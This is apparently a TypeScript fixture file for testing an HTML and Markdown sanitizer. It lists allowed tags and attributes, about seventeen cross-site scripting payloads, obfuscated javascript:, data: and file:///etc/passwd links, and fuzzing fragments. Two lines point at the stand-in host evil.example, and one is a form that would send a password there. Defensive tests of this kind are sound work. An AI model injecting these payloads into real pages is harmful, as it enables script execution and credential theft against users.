/** Texts of people who mean harm, and what the rendering of any text may hold. */

/** All that may stand in a page of somebody's text. */
export const allowed = {
  tags: "p br hr strong em del code pre blockquote ul ol li a table thead tbody tr th td span"
    .split(" "),
  attributes: "href title rel target start tabindex class".split(" "),
  classes: "link-host link-start link-end image-link".split(" "),
};

/** Each would do harm as HTML. */
export const attacks = [
  "<script>globalThis.harmed = 1</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror='globalThis.harmed = 1'>",
  "<svg onload=globalThis.harmed=1><use href=data:x></svg>",
  "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
  "<a href=javascript:globalThis.harmed=1>x</a>",
  "<style>* { display: none }</style>",
  "<form action=//evil.example><input name=password></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.harmed=1>",
  "<b id=x class=y style=color:red>x</b>",
  "<!-- --!> <img src=x onerror=globalThis.harmed=1> -->",
  "**<img src=x onerror=globalThis.harmed=1>**",
  "> <script>globalThis.harmed = 1</script>",
  "```\n</code></pre><script>globalThis.harmed = 1</script>\n```",
  "`</code><script>globalThis.harmed = 1</script>`",
  '```"><script>globalThis.harmed=1</script>\nx\n```',
  "| <script>globalThis.harmed=1</script> |\n|---|\n| <img src=x onerror=globalThis.harmed=1> |",
];

/** Each would be a link or a picture that does harm. */
export const badLinks = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/logout)",
  "[x](blob:https://example.org/1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '[x](https://example.org/"onmouseover="globalThis.harmed=1)',
  "[x](https://example.org 'a\" onmouseover=\"globalThis.harmed=1')",
];

/** Short pieces that, joined at random, make what nobody thought of. */
export const pieces = [
  ...["<", ">", "</", "/>", '"', "'", "`", "```", "\n", "\n\n", " ", "\t", "\\", "&", "&#", ";"],
  ...["[", "]", "(", ")", "!", "*", "_", "~~", "|", "|-|", "> ", "- ", "1. ", "# ", ":", "//"],
  ...[
    "javascript:",
    "data:",
    "https://a.b",
    "mailto:",
    "x",
    "script",
    "img src=x onerror=y",
    "svg",
  ],
  ...[
    "style",
    "title",
    "textarea",
    "noscript",
    "math",
    "template",
    "\u0000",
    "\u202e",
    "]]>",
    "<!--",
  ],
];
